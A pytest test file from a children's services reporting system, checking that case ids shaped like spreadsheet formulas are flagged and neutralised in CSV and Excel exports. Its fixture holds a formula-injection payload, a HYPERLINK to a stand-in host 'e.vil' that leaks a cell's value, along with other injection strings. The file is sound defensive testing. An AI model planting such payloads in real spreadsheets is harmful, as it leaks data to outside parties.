"""Issue 14, item 6: a case-system id a spreadsheet would run as a formula never becomes one.

Such ids are refused at input (children.services); one recorded before that is a problem
that bars each return (fixed on the child's page, never sent altered to the DfE), and the
writers neutralise it anyway: Annex A's cells are strings, the CSVs quote-prefix (OWASP)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from typing import Any

import pytest
from openpyxl import load_workbook

from homeward.children.models import Child
from homeward.reporting.annex_a import AnnexARow, annex_a_problems, annex_a_rows, annex_a_workbook
from homeward.reporting.ssd import ssd_missing, ssd_missing_csv
from homeward.reporting.ssda903 import MissingRow, MissingTable, ssda903_missing, ssda903_missing_csv

from .conftest import london

pytestmark = pytest.mark.django_db
PLACEMENT = {"authority": "941", "provider": "Oakfield House", "started_on": date(2019, 6, 1)}
# At most 40 characters, as the case-system id column keeps.
FORMULA = '=HYPERLINK("http://e.vil/"&A1,"Go")'


@pytest.fixture
def formula_child(make_child: Any, episode: Any) -> Any:
    """A looked-after child missing in 2024-25 whose id, stored before such ids were refused,
    is a formula."""
    child = make_child(placement=PLACEMENT)
    episode(child, london(2024, 6, 1, 22, 0), london(2024, 6, 4, 9, 0))
    Child.objects.filter(pk=child.pk).update(external_id=FORMULA)
    return Child.objects.get(pk=child.pk)


def test_each_return_bars_a_formula_id_as_a_problem(formula_child: Any, coordinator: Any) -> None:
    table = ssda903_missing(coordinator, year=2025)
    assert [(p.child, p.rule) for p in table.problems] == [(formula_child.pk, "CHILD")]
    assert "formula" in table.problems[0].message
    ssd = ssd_missing(coordinator)
    assert [p.child for p in ssd.problems] == [formula_child.pk] and not ssd.clean
    rows = annex_a_rows(coordinator, as_of=date(2025, 3, 31))
    assert [p.child for p in annex_a_problems(rows)] == [formula_child.pk]


@pytest.mark.parametrize("ref", [FORMULA, "+1", "-1", "@SUM(A1)", "\tX", "\rX"])
def test_the_csvs_quote_prefix_a_formula_cell(ref: str) -> None:
    row = MissingRow(episode=1, child=1, child_ref=ref, date_of_birth=date(2011, 5, 17), missing="M",
                     start=date(2024, 6, 1), end=None)
    text = ssda903_missing_csv(MissingTable(year=2025, rows=[row], problems=[]))
    assert list(csv.reader(io.StringIO(text, newline="")))[1][0] == "'" + ref
    ssd = list(csv.reader(io.StringIO(ssd_missing_csv([["1", ref, "", "M", "", "", ""]]))))
    assert ssd[1][1] == "'" + ref


def test_ordinary_ids_are_written_unchanged() -> None:
    row = MissingRow(episode=1, child=1, child_ref="MOS100200", date_of_birth=date(2011, 5, 17), missing="M",
                     start=date(2024, 6, 1), end=None)
    assert ssda903_missing_csv(MissingTable(2025, [row], [])).splitlines()[1] == "MOS100200,17/05/2011,M,01/06/2024,"


def test_annex_a_writes_a_formula_id_as_a_string_never_a_formula() -> None:
    row = AnnexARow(child=1, child_ref=FORMULA, gender="=1+1", date_of_birth=date(2011, 5, 17), missing=1, away=0,
                    rhi_offered="@x", rhi_accepted="-1", last_missing_episode=None)
    content = annex_a_workbook([row], as_of=date(2025, 3, 31))
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    assert [sheet.cell(row=2, column=c).value for c in (1, 2, 6, 7)] == [FORMULA, "=1+1", "@x", "-1"]
    assert all(sheet.cell(row=2, column=c).data_type == "s" for c in (1, 2, 6, 7))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
